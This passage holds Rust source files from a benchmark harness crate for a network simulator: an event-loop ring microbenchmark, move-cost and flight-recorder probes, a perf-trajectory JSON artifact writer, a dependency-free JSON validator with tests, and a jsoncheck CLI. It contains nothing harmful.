            Some(b'n') => literal(b, pos, "null"),
            Some(c) if c.is_ascii_digit() || *c == b'-' => number(b, pos),
            _ => Err(format!("expected a JSON value at byte {pos}")),
        }
    }

    fn object(b: &[u8], pos: &mut usize) -> Result<(), String> {
        expect(b, pos, b'{')?;
        skip_ws(b, pos);
        if b.get(*pos) == Some(&b'}') {
            *pos += 1;
            return Ok(());
        }
        loop {
            skip_ws(b, pos);
            string(b, pos)?;
            skip_ws(b, pos);
            expect(b, pos, b':')?;
            value(b, pos)?;
            skip_ws(b, pos);
            match b.get(*pos) {
                Some(b',') => *pos += 1,
                Some(b'}') => {
                    *pos += 1;
                    return Ok(());
                }
                _ => return Err(format!("expected ',' or '}}' at byte {pos}")),
            }
        }
    }

    fn array(b: &[u8], pos: &mut usize) -> Result<(), String> {
        expect(b, pos, b'[')?;
        skip_ws(b, pos);
        if b.get(*pos) == Some(&b']') {
            *pos += 1;
            return Ok(());
        }
        loop {
            value(b, pos)?;
            skip_ws(b, pos);
            match b.get(*pos) {
                Some(b',') => *pos += 1,
                Some(b']') => {
                    *pos += 1;
                    return Ok(());
                }
                _ => return Err(format!("expected ',' or ']' at byte {pos}")),
            }
        }
    }

    fn string(b: &[u8], pos: &mut usize) -> Result<(), String> {
        expect(b, pos, b'"')?;
        while *pos < b.len() {
            match b[*pos] {
                b'"' => {
                    *pos += 1;
                    return Ok(());
                }
                b'\\' => {
                    *pos += 1;
                    match b.get(*pos) {
                        Some(b'"' | b'\\' | b'/' | b'b' | b'f' | b'n' | b'r' | b't') => *pos += 1,
                        Some(b'u') => {
                            *pos += 1;
                            for _ in 0..4 {
                                if !b.get(*pos).is_some_and(u8::is_ascii_hexdigit) {
                                    return Err(format!("bad \\u escape at byte {pos}"));
                                }
                                *pos += 1;
                            }
                        }
                        _ => return Err(format!("bad escape at byte {pos}")),
                    }
                }
                0x00..=0x1F => return Err(format!("control character in string at byte {pos}")),
                _ => *pos += 1,
            }
        }
        Err("unterminated string".to_string())
    }

    fn number(b: &[u8], pos: &mut usize) -> Result<(), String> {
        let start = *pos;
        if b.get(*pos) == Some(&b'-') {
            *pos += 1;
        }
        fn digits(b: &[u8], pos: &mut usize) -> bool {
            let from = *pos;
            while b.get(*pos).is_some_and(u8::is_ascii_digit) {
                *pos += 1;
            }
            *pos > from
        }
        if !digits(b, pos) {
            return Err(format!("bad number at byte {start}"));
        }
        if b.get(*pos) == Some(&b'.') {
            *pos += 1;
            if !digits(b, pos) {
                return Err(format!("bad fraction at byte {start}"));
            }
        }
        if matches!(b.get(*pos), Some(b'e' | b'E')) {
            *pos += 1;
            if matches!(b.get(*pos), Some(b'+' | b'-')) {
                *pos += 1;
            }
            if !digits(b, pos) {
                return Err(format!("bad exponent at byte {start}"));
            }
        }
        Ok(())
    }

    fn literal(b: &[u8], pos: &mut usize, word: &str) -> Result<(), String> {
        if b[*pos..].starts_with(word.as_bytes()) {
            *pos += word.len();
            Ok(())
        } else {
            Err(format!("bad literal at byte {pos}"))
        }
    }

    #[cfg(test)]
    mod tests {
        use super::validate;

        #[test]
        fn accepts_well_formed_documents() {
            for ok in [
                "{}",
                "[]",
                "null",
                "-12.5e+3",
                r#""escaped \" and snowman""#,
                r#"{ "a": [1, 2.0, -3e9], "b": { "nested": true }, "c": "x" }"#,
                "  {\n  \"k\": \"v\"\n}\n",
            ] {
                assert!(validate(ok).is_ok(), "should accept: {ok}");
            }
        }

        #[test]
        fn rejects_malformed_documents() {
            for bad in [
                "",
                "{",
                "{\"a\": }",
                "{\"a\": 1,}",
                "[1, 2",
                "{\"a\" 1}",
                "{\"a\": 1} extra",
                "\"unterminated",
                "nul",
                "{\"a\": 1e}",
                "{1: 2}",
            ] {
                assert!(validate(bad).is_err(), "should reject: {bad}");
            }
        }
    }
}
