//! # bench — benchmark harness helpers and the perf-trajectory smoke
//! runners
//!
//! The criterion targets under `benches/` regenerate every table and
//! figure of the paper; this library crate carries what they share:
//!
//! * [`show`] — banner printing for regenerated artefacts;
//! * [`engine_driver`] — the budget-bounded forwarding-ring
//!   microbenchmark used by the `engine` criterion target and the
//!   `trajectory` smoke binary (events/sec of the raw event loop);
//! * [`movecost`] — the memcpy/move-cost microbenchmark that prices the
//!   by-value moves of each hot-path struct at its exact size;
//! * [`obsprobe`] — the flight-recorder ring microbenchmark: events/sec
//!   with the ring recording vs. the arithmetic-only baseline that
//!   stands in for the compiled-out sink, so the cost of enabling
//!   tracing is a recorded number, not folklore;
//! * [`artifact`] — the shared `BENCH_engine.json` renderer/writer, so
//!   the criterion smoke and `trajectory --engine-only` emit one shape;
//!   each write appends this run's headline rate to the artifact's
//!   `history` array, turning the file into a per-PR trajectory;
//! * [`json`] — a tiny dependency-free JSON validator, so the CI smoke
//!   runners can fail the build on malformed `BENCH_*.json` output
//!   without shelling out to `jq`.

#![warn(missing_docs)]

/// Prints a regenerated artefact with a banner, once per bench run.
pub fn show(title: &str, body: &str) {
    println!("\n──── regenerated: {title} ────\n{body}");
}

pub mod engine_driver {
    //! The engine microbenchmark: a ring of hosts forwarding one datagram
    //! forever, terminated by the simulator's event budget. Measures raw
    //! event-loop throughput (slab dispatch, timing wheel, pooled
    //! buffers) with no scenario logic on top.

    use std::net::Ipv4Addr;

    use timeshift::prelude::*;

    /// Events dispatched per drive (the event budget).
    pub const EVENTS_PER_ITER: u64 = 100_000;
    /// Hosts in the forwarding ring.
    pub const RING_HOSTS: u32 = 64;

    /// Forwards every datagram to the next host in the ring, forever. The
    /// event budget is what terminates the run.
    pub struct RingForwarder {
        /// Next hop in the ring.
        pub next: Ipv4Addr,
    }

    impl Host for RingForwarder {
        fn on_start(&mut self, ctx: &mut Ctx<'_>) {
            ctx.send_udp(self.next, 4000, 4000, bytes::Bytes::from_static(b"lap"));
        }
        fn on_datagram(&mut self, ctx: &mut Ctx<'_>, d: &Datagram) {
            ctx.send_udp(self.next, d.dst_port, d.src_port, d.payload.clone());
        }
    }

    /// Builds the budget-bounded ring simulation.
    pub fn ring_sim(seed: u64) -> Simulator {
        let mut sim = Simulator::with_topology(
            seed,
            Topology::uniform(LinkSpec::fixed(SimDuration::from_millis(5))),
        );
        sim.reserve_hosts(RING_HOSTS as usize);
        let addr = |i: u32| Ipv4Addr::from(0x0A00_0000 + 1 + i);
        for i in 0..RING_HOSTS {
            let next = addr((i + 1) % RING_HOSTS);
            sim.add_host(addr(i), OsProfile::linux(), Box::new(RingForwarder { next }))
                .expect("ring address free");
        }
        sim.set_event_budget(EVENTS_PER_ITER);
        sim
    }

    /// One full iteration: dispatch exactly [`EVENTS_PER_ITER`] events.
    pub fn drive(seed: u64) -> SimStats {
        let mut sim = ring_sim(seed);
        // The budget (not the deadline) terminates the run.
        sim.run_for(SimDuration::from_secs(86_400));
        sim.stats()
    }

    /// Defrag-cache churn: one planted fragment per second for `rounds`
    /// rounds, so every insert past the timeout horizon also expires the
    /// oldest entry through the time-ordered ring. Returns the peak
    /// pending-reassembly count (the artifact's `defrag_peak_pending`).
    pub fn defrag_churn(rounds: u64) -> usize {
        let mut cache =
            DefragCache::new(DefragConfig { max_pending_per_pair: 64, ..DefragConfig::default() });
        let src = Ipv4Addr::new(10, 0, 0, 1);
        let dst = Ipv4Addr::new(10, 0, 0, 2);
        let base = Ipv4Packet::udp(src, dst, 0, bytes::Bytes::from(vec![0xAB; 2000]));
        let template = fragment(base, 1028).expect("fragments")[1].clone();
        let mut pending_peak = 0;
        for round in 0..rounds {
            let mut f = template.clone();
            f.id = (round % 0x1_0000) as u16;
            let now = SimTime::ZERO + SimDuration::from_secs(round);
            cache.insert(now, f);
            pending_peak = pending_peak.max(cache.pending_reassemblies());
        }
        pending_peak
    }

    /// Best-of-three timed drives of the same seed: identical stats every
    /// time, minimum elapsed seconds — the recorded number reflects the
    /// engine, not scheduler noise or seed luck.
    // Wall-clock reads are the point here: crates/bench is the simlint
    // R3 allowlist (clippy mirrors the rule workspace-wide).
    #[allow(clippy::disallowed_methods)]
    pub fn measure() -> (SimStats, f64) {
        let one = || {
            let start = std::time::Instant::now();
            let stats = drive(1);
            (stats, start.elapsed().as_secs_f64())
        };
        let (mut stats, mut elapsed) = one();
        for _ in 0..2 {
            let (s, e) = one();
            if e < elapsed {
                (stats, elapsed) = (s, e);
            }
        }
        (stats, elapsed)
    }
}

pub mod movecost {
    //! The memcpy/move-cost microbenchmark: measures the cost of moving
    //! values by stride size, one stride per hot-path struct. The event
    //! loop moves packets and events *by value* (wheel cascades, batch
    //! drains, slab dispatch), so throughput is bounded by how fast the
    //! machine shuffles N-byte objects — this pins the measured ns/move
    //! for each struct's exact size next to the recorded sizes, making a
    //! layout regression show up as a *cost*, not just a byte count.

    /// Moves timed per stride (enough to escape timer granularity).
    const LANES: usize = 4096;
    /// Timed repetitions; best-of is recorded.
    const ROUNDS: u32 = 64;

    /// Cost of moving one `size`-byte value, in nanoseconds, measured as
    /// a strided buffer-to-buffer copy (the same access pattern as a
    /// wheel slot draining into the batch ring). Best of `ROUNDS`
    /// passes over `LANES` lanes.
    // Wall-clock reads are the point: crates/bench is the simlint R3
    // allowlist (clippy mirrors the rule workspace-wide).
    #[allow(clippy::disallowed_methods)]
    pub fn ns_per_move(size: usize) -> f64 {
        let src = vec![0xA5u8; size * LANES];
        let mut dst = vec![0u8; size * LANES];
        let mut best = f64::INFINITY;
        for _ in 0..ROUNDS {
            let start = std::time::Instant::now();
            for lane in 0..LANES {
                let at = lane * size;
                dst[at..at + size].copy_from_slice(&src[at..at + size]);
            }
            std::hint::black_box(&mut dst);
            best = best.min(start.elapsed().as_secs_f64());
        }
        best * 1e9 / LANES as f64
    }
}

pub mod obsprobe {
    //! The flight-recorder ring microbenchmark: how fast can the obs ring
    //! absorb events, and what does that cost relative to not recording
    //! at all? The "baseline" loop performs the identical per-event
    //! arithmetic (tick/host/payload derivation) without touching the
    //! ring — it is the stand-in for the compiled-out sink, where the
    //! trace call sites vanish entirely. Both rates land in
    //! `BENCH_engine.json` so a ring-layout regression shows up in the
    //! artifact diff.

    use obs::FlightRecorder;

    /// Events pushed per timed round (many ring laps at the default
    /// capacity, so steady-state overwrite is what gets measured).
    pub const EVENTS_PER_ROUND: u64 = 1_000_000;
    /// Timed repetitions; best-of is recorded.
    const ROUNDS: u32 = 5;

    /// The probe's result: recording vs. arithmetic-only throughput.
    pub struct ObsProbe {
        /// Events/sec with every event recorded into the ring.
        pub enabled_events_per_sec: f64,
        /// Events/sec of the identical loop without the ring (the
        /// compiled-out representation).
        pub baseline_events_per_sec: f64,
        /// Payload digest of the final ring state — pins that the
        /// enabled loop really recorded what it claims.
        pub digest: u64,
    }

    impl ObsProbe {
        /// Baseline rate over enabled rate: how many times faster the
        /// loop runs when the sink is compiled out (≥ 1.0 in practice).
        pub fn overhead_ratio(&self) -> f64 {
            self.baseline_events_per_sec / self.enabled_events_per_sec.max(1e-9)
        }
    }

    /// One synthetic event stream, shared by both loops so they do the
    /// same arithmetic: a fold that derives tick/host/kind/payload from
    /// the index. Returns an accumulator so nothing is optimised away.
    #[inline]
    fn event(i: u64) -> (u64, u32, u16, u64, u64) {
        let tick = i >> 4;
        let host = (i % 97) as u32;
        let kind = obs::kind::FRAG_RX + (i % 5) as u16;
        (tick, host, kind, i, i ^ 0x9E37_79B9_7F4A_7C15)
    }

    /// Runs the probe: best-of-`ROUNDS` timed passes of
    /// [`EVENTS_PER_ROUND`] events through the recording loop and the
    /// baseline loop.
    // Wall-clock reads are the point: crates/bench is the simlint R3
    // allowlist (clippy mirrors the rule workspace-wide).
    #[allow(clippy::disallowed_methods)]
    pub fn measure() -> ObsProbe {
        let mut ring = FlightRecorder::new(obs::DEFAULT_CAPACITY);
        let mut enabled_best = f64::INFINITY;
        for _ in 0..ROUNDS {
            ring.clear();
            let start = std::time::Instant::now();
            for i in 0..EVENTS_PER_ROUND {
                let (tick, host, kind, a, b) = event(i);
                ring.record(tick, host, kind, a, b);
            }
            std::hint::black_box(&mut ring);
            enabled_best = enabled_best.min(start.elapsed().as_secs_f64());
        }
        let digest = ring.digest_payload();

        let mut baseline_best = f64::INFINITY;
        let mut acc = 0u64;
        for _ in 0..ROUNDS {
            let start = std::time::Instant::now();
            for i in 0..EVENTS_PER_ROUND {
                let (tick, host, kind, a, b) = event(i);
                acc = acc
                    .wrapping_add(tick)
                    .wrapping_add(host as u64)
                    .wrapping_add(kind as u64)
                    .wrapping_add(a ^ b);
            }
            std::hint::black_box(&mut acc);
            baseline_best = baseline_best.min(start.elapsed().as_secs_f64());
        }

        ObsProbe {
            enabled_events_per_sec: EVENTS_PER_ROUND as f64 / enabled_best.max(1e-9),
            baseline_events_per_sec: EVENTS_PER_ROUND as f64 / baseline_best.max(1e-9),
            digest,
        }
    }
}

pub mod artifact {
    //! Builds and writes `BENCH_engine.json`, shared by the criterion
    //! `engine` smoke target and the `trajectory --engine-only` runner so
    //! both emit the identical artifact shape. The JSON is validated by
    //! [`crate::json::validate`] before it is written — emitting a
    //! malformed artifact panics, which is the CI gate.
    //!
    //! The writer appends two sections **after** the headline fields
    //! (so [`crate::json::number_field`], which reads the *first*
    //! occurrence of a key, still finds the headline numbers): an `obs`
    //! object with the flight-recorder ring throughput probe, and a
    //! `history` array carrying one `{ run, events_per_sec }` entry per
    //! artifact write — the per-PR perf trajectory.

    use timeshift::prelude::*;

    /// Renders the engine perf-trajectory artifact: headline events/sec,
    /// pool behaviour, defrag churn, and the hot-path struct sizes with
    /// their measured per-move cost (see [`crate::movecost`]).
    ///
    /// # Panics
    ///
    /// Panics if the rendered JSON fails validation or the steady-state
    /// pool hit rate falls below 99 % — both are CI gates, not warnings.
    pub fn render_engine_json(stats: &SimStats, elapsed_secs: f64, defrag_peak: usize) -> String {
        let rate = stats.events_dispatched as f64 / elapsed_secs.max(1e-9);
        let pool_served = stats.pool_hits + stats.pool_misses;
        let pool_hit_rate =
            if pool_served == 0 { 1.0 } else { stats.pool_hits as f64 / pool_served as f64 };
        let mut sizes = String::new();
        let mut moves = String::new();
        for (i, (name, size)) in hot_struct_sizes().iter().enumerate() {
            if i > 0 {
                sizes.push_str(", ");
                moves.push_str(",\n");
            }
            sizes.push_str(&format!("\"{name}\": {size}"));
            moves.push_str(&format!(
                "    {{ \"struct\": \"{name}\", \"bytes\": {size}, \"ns_per_move\": {:.3} }}",
                crate::movecost::ns_per_move(*size)
            ));
        }
        let json = format!(
            "{{\n  \"bench\": \"engine\",\n  \"events_dispatched\": {},\n  \
             \"elapsed_secs\": {:.6},\n  \"events_per_sec\": {:.0},\n  \
             \"peak_queue_depth\": {},\n  \"ipid_evictions\": {},\n  \
             \"pool_hits\": {},\n  \"pool_misses\": {},\n  \"pool_hit_rate\": {:.6},\n  \
             \"defrag_spray_rounds\": 30000,\n  \"defrag_peak_pending\": {},\n  \
             \"struct_sizes\": {{ {} }},\n  \"move_cost\": [\n{}\n  ]\n}}\n",
            stats.events_dispatched,
            elapsed_secs,
            rate,
            stats.peak_queue_depth,
            stats.ipid_evictions,
            stats.pool_hits,
            stats.pool_misses,
            pool_hit_rate,
            defrag_peak,
            sizes,
            moves,
        );
        crate::json::validate(&json).expect("BENCH_engine.json must be well-formed JSON");
        assert!(
            pool_hit_rate >= 0.99,
            "steady-state deliver path must be allocation-free: pool hit rate {pool_hit_rate:.4} \
             ({} hits / {} misses)",
            stats.pool_hits,
            stats.pool_misses
        );
        json
    }

    /// Workspace-root path of `BENCH_engine.json`.
    pub const ENGINE_JSON_PATH: &str =
        concat!(env!("CARGO_MANIFEST_DIR"), "/../../BENCH_engine.json");

    /// Renders the `history` array for this write: the entries carried
    /// over from `previous` (the artifact's prior contents, if any) plus
    /// one new `{ run, events_per_sec }` entry. Run numbers are
    /// append-ordered: one greater than the number of carried entries.
    pub fn render_history(previous: Option<&str>, events_per_sec: f64) -> String {
        let carried = previous.and_then(extract_history).unwrap_or_default();
        let run = carried.iter().filter(|e| e.contains("\"run\"")).count() + 1;
        let mut out = String::from("[\n");
        for entry in &carried {
            out.push_str("    ");
            out.push_str(entry);
            out.push_str(",\n");
        }
        out.push_str(&format!(
            "    {{ \"run\": {run}, \"events_per_sec\": {events_per_sec:.0} }}\n  ]"
        ));
        out
    }

    /// Pulls the `history` entries (one rendered object per element) out
    /// of a prior artifact. `None` for artifacts predating the section.
    fn extract_history(json: &str) -> Option<Vec<String>> {
        let at = json.find("\"history\": [")? + "\"history\": [".len();
        let body = &json[at..];
        let end = body.find(']')?; // entries are flat objects: no nested ']'
        Some(
            body[..end]
                .split('}')
                .filter_map(|s| {
                    let s = s.trim().trim_start_matches(',').trim();
                    s.starts_with('{').then(|| format!("{s} }}"))
                })
                .collect(),
        )
    }

    /// Renders the flight-recorder ring probe section (see
    /// [`crate::obsprobe`]).
    pub fn render_obs_json(probe: &crate::obsprobe::ObsProbe) -> String {
        format!(
            "{{ \"ring_capacity\": {}, \"events_per_round\": {}, \
             \"enabled_events_per_sec\": {:.0}, \"baseline_events_per_sec\": {:.0}, \
             \"overhead_ratio\": {:.4}, \"payload_digest\": \"{:016x}\" }}",
            obs::DEFAULT_CAPACITY,
            crate::obsprobe::EVENTS_PER_ROUND,
            probe.enabled_events_per_sec,
            probe.baseline_events_per_sec,
            probe.overhead_ratio(),
            probe.digest,
        )
    }

    /// Splices the trailing sections into the headline artifact. They go
    /// **after** every headline field so [`crate::json::number_field`]
    /// (first occurrence wins) keeps reading the headline numbers.
    pub fn with_trailing_sections(headline: &str, obs_json: &str, history: &str) -> String {
        let body = headline.trim_end().strip_suffix('}').expect("artifact is a JSON object");
        let json =
            format!("{},\n  \"obs\": {obs_json},\n  \"history\": {history}\n}}\n", body.trim_end());
        crate::json::validate(&json).expect("BENCH_engine.json must stay well-formed JSON");
        json
    }

    /// Renders and writes the artifact: headline sections, the obs ring
    /// probe, and the appended per-run `history` trajectory (carried over
    /// from the file's previous contents). Failure to *write* (a
    /// read-only checkout) only warns; malformed output panics in the
    /// renderer.
    pub fn write_engine_json(stats: &SimStats, elapsed_secs: f64, defrag_peak: usize) {
        let headline = render_engine_json(stats, elapsed_secs, defrag_peak);
        let previous = std::fs::read_to_string(ENGINE_JSON_PATH).ok();
        let probe = crate::obsprobe::measure();
        println!(
            "obs ring {:.2} M events/sec recorded, {:.2} M baseline ({:.2}x)",
            probe.enabled_events_per_sec / 1e6,
            probe.baseline_events_per_sec / 1e6,
            probe.overhead_ratio(),
        );
        let history = render_history(
            previous.as_deref(),
            stats.events_dispatched as f64 / elapsed_secs.max(1e-9),
        );
        let json = with_trailing_sections(&headline, &render_obs_json(&probe), &history);
        match std::fs::write(ENGINE_JSON_PATH, json) {
            Ok(()) => println!("wrote {ENGINE_JSON_PATH}"),
            Err(e) => eprintln!("warning: could not write {ENGINE_JSON_PATH}: {e}"),
        }
    }

    #[cfg(test)]
    mod tests {
        use super::{render_history, with_trailing_sections};

        #[test]
        fn history_appends_one_entry_per_write() {
            let first = render_history(None, 1_000_000.0);
            assert!(first.contains("\"run\": 1"), "{first}");
            assert!(first.contains("\"events_per_sec\": 1000000"), "{first}");
            // A prior artifact carrying that history: the next write keeps
            // run 1 and appends run 2.
            let artifact = format!("{{\n  \"bench\": \"engine\",\n  \"history\": {first}\n}}\n");
            let second = render_history(Some(&artifact), 2_000_000.0);
            assert!(second.contains("\"run\": 1") && second.contains("1000000"), "{second}");
            assert!(second.contains("\"run\": 2") && second.contains("2000000"), "{second}");
            crate::json::validate(&second).expect("history array is well-formed");
        }

        #[test]
        fn trailing_sections_never_shadow_headline_fields() {
            let headline = "{\n  \"bench\": \"engine\",\n  \"events_per_sec\": 100\n}\n";
            let history = render_history(None, 999_999.0);
            let obs = "{ \"enabled_events_per_sec\": 42 }";
            let json = with_trailing_sections(headline, obs, &history);
            crate::json::validate(&json).expect("spliced artifact is well-formed");
            // number_field reads the FIRST occurrence: the headline rate,
            // not the history entry's.
            assert_eq!(crate::json::number_field(&json, "events_per_sec"), Some(100.0));
            assert!(json.contains("\"obs\":") && json.contains("\"history\":"));
        }
    }
}

pub mod json {
    //! A tiny JSON validator (no parsing into values, no dependencies):
    //! just enough to let the smoke runners verify the `BENCH_*.json`
    //! files they emit are well-formed before CI uploads them.

    /// Validates that `input` is one well-formed JSON value (objects,
    /// arrays, strings with escapes, numbers, booleans, null) with
    /// nothing but whitespace after it.
    ///
    /// # Errors
    ///
    /// Returns a human-readable description of the first syntax error,
    /// with its byte offset.
    pub fn validate(input: &str) -> Result<(), String> {
        let bytes = input.as_bytes();
        let mut pos = 0usize;
        skip_ws(bytes, &mut pos);
        value(bytes, &mut pos)?;
        skip_ws(bytes, &mut pos);
        if pos != bytes.len() {
            return Err(format!("trailing data at byte {pos}"));
        }
        Ok(())
    }

    /// Extracts the first top-level-ish numeric field named `key` from
    /// (already-validated) JSON: the value following `"key":`. Enough for
    /// the perf gate to read a headline number out of a `BENCH_*.json`
    /// artifact without a JSON tree in the workspace.
    pub fn number_field(input: &str, key: &str) -> Option<f64> {
        let needle = format!("\"{key}\"");
        let at = input.find(&needle)? + needle.len();
        let rest = input[at..].trim_start();
        let rest = rest.strip_prefix(':')?.trim_start();
        let end = rest
            .find(|c: char| !(c.is_ascii_digit() || matches!(c, '-' | '+' | '.' | 'e' | 'E')))
            .unwrap_or(rest.len());
        rest[..end].parse().ok()
    }

    fn skip_ws(b: &[u8], pos: &mut usize) {
        while *pos < b.len() && matches!(b[*pos], b' ' | b'\t' | b'\n' | b'\r') {
            *pos += 1;
        }
    }

    fn expect(b: &[u8], pos: &mut usize, c: u8) -> Result<(), String> {
        if *pos < b.len() && b[*pos] == c {
            *pos += 1;
            Ok(())
        } else {
            Err(format!("expected '{}' at byte {}", c as char, pos))
        }
    }

    fn value(b: &[u8], pos: &mut usize) -> Result<(), String> {
        skip_ws(b, pos);
        match b.get(*pos) {
            Some(b'{') => object(b, pos),
            Some(b'[') => array(b, pos),
            Some(b'"') => string(b, pos),
            Some(b't') => literal(b, pos, "true"),
            Some(b'f') => literal(b, pos, "false"),
            Some(b'n') => literal(b, pos, "null"),
            Some(c) if c.is_ascii_digit() || *c == b'-' => number(b, pos),
            _ => Err(format!("expected a JSON value at byte {pos}")),
        }
    }

    fn object(b: &[u8], pos: &mut usize) -> Result<(), String> {
        expect(b, pos, b'{')?;
        skip_ws(b, pos);
        if b.get(*pos) == Some(&b'}') {
            *pos += 1;
            return Ok(());
        }
        loop {
            skip_ws(b, pos);
            string(b, pos)?;
            skip_ws(b, pos);
            expect(b, pos, b':')?;
            value(b, pos)?;
            skip_ws(b, pos);
            match b.get(*pos) {
                Some(b',') => *pos += 1,
                Some(b'}') => {
                    *pos += 1;
                    return Ok(());
                }
                _ => return Err(format!("expected ',' or '}}' at byte {pos}")),
            }
        }
    }

    fn array(b: &[u8], pos: &mut usize) -> Result<(), String> {
        expect(b, pos, b'[')?;
        skip_ws(b, pos);
        if b.get(*pos) == Some(&b']') {
            *pos += 1;
            return Ok(());
        }
        loop {
            value(b, pos)?;
            skip_ws(b, pos);
            match b.get(*pos) {
                Some(b',') => *pos += 1,
                Some(b']') => {
                    *pos += 1;
                    return Ok(());
                }
                _ => return Err(format!("expected ',' or ']' at byte {pos}")),
            }
        }
    }

    fn string(b: &[u8], pos: &mut usize) -> Result<(), String> {
        expect(b, pos, b'"')?;
        while *pos < b.len() {
            match b[*pos] {
                b'"' => {
                    *pos += 1;
                    return Ok(());
                }
                b'\\' => {
                    *pos += 1;
                    match b.get(*pos) {
                        Some(b'"' | b'\\' | b'/' | b'b' | b'f' | b'n' | b'r' | b't') => *pos += 1,
                        Some(b'u') => {
                            *pos += 1;
                            for _ in 0..4 {
                                if !b.get(*pos).is_some_and(u8::is_ascii_hexdigit) {
                                    return Err(format!("bad \\u escape at byte {pos}"));
                                }
                                *pos += 1;
                            }
                        }
                        _ => return Err(format!("bad escape at byte {pos}")),
                    }
                }
                0x00..=0x1F => return Err(format!("control character in string at byte {pos}")),
                _ => *pos += 1,
            }
        }
        Err("unterminated string".to_string())
    }

    fn number(b: &[u8], pos: &mut usize) -> Result<(), String> {
        let start = *pos;
        if b.get(*pos) == Some(&b'-') {
            *pos += 1;
        }
        fn digits(b: &[u8], pos: &mut usize) -> bool {
            let from = *pos;
            while b.get(*pos).is_some_and(u8::is_ascii_digit) {
                *pos += 1;
            }
            *pos > from
        }
        if !digits(b, pos) {
            return Err(format!("bad number at byte {start}"));
        }
        if b.get(*pos) == Some(&b'.') {
            *pos += 1;
            if !digits(b, pos) {
                return Err(format!("bad fraction at byte {start}"));
            }
        }
        if matches!(b.get(*pos), Some(b'e' | b'E')) {
            *pos += 1;
            if matches!(b.get(*pos), Some(b'+' | b'-')) {
                *pos += 1;
            }
            if !digits(b, pos) {
                return Err(format!("bad exponent at byte {start}"));
            }
        }
        Ok(())
    }

    fn literal(b: &[u8], pos: &mut usize, word: &str) -> Result<(), String> {
        if b[*pos..].starts_with(word.as_bytes()) {
            *pos += word.len();
            Ok(())
        } else {
            Err(format!("bad literal at byte {pos}"))
        }
    }

    #[cfg(test)]
    mod tests {
        use super::{number_field, validate};

        #[test]
        fn accepts_well_formed_documents() {
            for ok in [
                "{}",
                "[]",
                "null",
                "-12.5e+3",
                r#""escaped \" and snowman""#,
                r#"{ "a": [1, 2.0, -3e9], "b": { "nested": true }, "c": "x" }"#,
                "  {\n  \"k\": \"v\"\n}\n",
            ] {
                assert!(validate(ok).is_ok(), "should accept: {ok}");
            }
        }

        #[test]
        fn rejects_malformed_documents() {
            for bad in [
                "",
                "{",
                "{\"a\": }",
                "{\"a\": 1,}",
                "[1, 2",
                "{\"a\" 1}",
                "{\"a\": 1} extra",
                "\"unterminated",
                "nul",
                "{\"a\": 1e}",
                "{1: 2}",
            ] {
                assert!(validate(bad).is_err(), "should reject: {bad}");
            }
        }

        #[test]
        fn number_field_reads_headline_values() {
            let doc = r#"{ "bench": "engine", "engine_events_per_sec": 6500000,
                           "nested": { "elapsed_secs": 0.015 } }"#;
            assert_eq!(number_field(doc, "engine_events_per_sec"), Some(6_500_000.0));
            assert_eq!(number_field(doc, "elapsed_secs"), Some(0.015));
            assert_eq!(number_field(doc, "missing"), None);
            assert_eq!(number_field(r#"{"a": "str"}"#, "a"), None);
        }
    }
}
