//! Shared helpers for the benchmark harness: every bench prints the
//! regenerated table/figure once, then measures the underlying experiment.

/// Prints a regenerated artefact with a banner, once per bench run.
pub fn show(title: &str, body: &str) {
    println!("\n──── regenerated: {title} ────\n{body}");
}
