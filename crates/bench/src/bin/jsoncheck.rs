//! CI artifact validator: checks that each file argument is one
//! well-formed JSON value, using the same dependency-free validator
//! (`bench::json`) the smoke runners gate their own output with.
//!
//! ```sh
//! jsoncheck BENCH_engine.json
//! jsoncheck --require final --require per_shard runs/table2/metrics.json
//! ```
//!
//! `--require KEY` (repeatable) additionally asserts that every checked
//! file contains a `"KEY":` member — how CI pins that `metrics.json`
//! really is the final normalized snapshot, not a stale live tick.

use std::process::ExitCode;

fn main() -> ExitCode {
    let mut required: Vec<String> = Vec::new();
    let mut files: Vec<String> = Vec::new();
    let mut args = std::env::args().skip(1);
    while let Some(a) = args.next() {
        if a == "--require" {
            match args.next() {
                Some(key) => required.push(key),
                None => {
                    eprintln!("jsoncheck: --require needs a key");
                    return ExitCode::from(2);
                }
            }
        } else {
            files.push(a);
        }
    }
    if files.is_empty() {
        eprintln!("usage: jsoncheck [--require KEY]… FILE…");
        return ExitCode::from(2);
    }

    let mut ok = true;
    for path in &files {
        let text = match std::fs::read_to_string(path) {
            Ok(text) => text,
            Err(e) => {
                eprintln!("jsoncheck: {path}: {e}");
                ok = false;
                continue;
            }
        };
        if let Err(e) = bench::json::validate(&text) {
            eprintln!("jsoncheck: {path}: {e}");
            ok = false;
            continue;
        }
        let missing: Vec<&str> = required
            .iter()
            .map(String::as_str)
            .filter(|key| !text.contains(&format!("\"{key}\":")))
            .collect();
        if missing.is_empty() {
            println!("jsoncheck: {path}: ok");
        } else {
            eprintln!("jsoncheck: {path}: missing required key(s): {}", missing.join(", "));
            ok = false;
        }
    }
    if ok {
        ExitCode::SUCCESS
    } else {
        ExitCode::FAILURE
    }
}
