//! Scenario-layer perf-trajectory smoke runner.
//!
//! `BENCH_engine.json` guards the raw event loop; this binary extends the
//! same scheme to the scenario layer (dns → ntp → attack on top of the
//! engine), where a regression would otherwise be invisible. It drives the
//! Table I / Table II / Fig. 6 / Fig. 7 experiments at `Scale::quick()`
//! through `runner::TrialRunner`, times each, and writes
//! `BENCH_scenarios.json` (trials/sec per scenario plus engine
//! events/sec) to the workspace root; CI uploads it per PR next to
//! `BENCH_engine.json`.
//!
//! It then closes the remaining trajectory gap: the `measure` scans
//! (fig5, table5_adstudy, ratelimit) are driven through the `campaign`
//! scenario registry — the same per-trial entry points the sharded
//! campaigns run — timed, digested, and written as `BENCH_measure.json`.
//!
//! The runner validates every JSON artifact it writes (and
//! `BENCH_engine.json`, if present) with the dependency-free validator in
//! `bench::json` and exits non-zero on any malformation or panic — that
//! is the CI gate.
//!
//! Run with: `cargo run --release -p bench --bin trajectory`
//!
//! `--engine-only` skips the scenario and measure-scan passes and
//! re-emits just `BENCH_engine.json` (engine events/sec, struct sizes,
//! move costs) in a couple of seconds — the fast iteration loop for
//! hot-path work, where a full scenario sweep would bury the signal.

use std::time::Instant;

use campaign::prelude::*;
use campaign::record::encode_line;
use timeshift::prelude::*;

/// One timed scenario measurement.
struct Entry {
    name: &'static str,
    trials: usize,
    elapsed_secs: f64,
}

impl Entry {
    fn trials_per_sec(&self) -> f64 {
        self.trials as f64 / self.elapsed_secs.max(1e-9)
    }
}

// crates/bench is the simlint R3 wall-clock allowlist; mirror for clippy.
#[allow(clippy::disallowed_methods)]
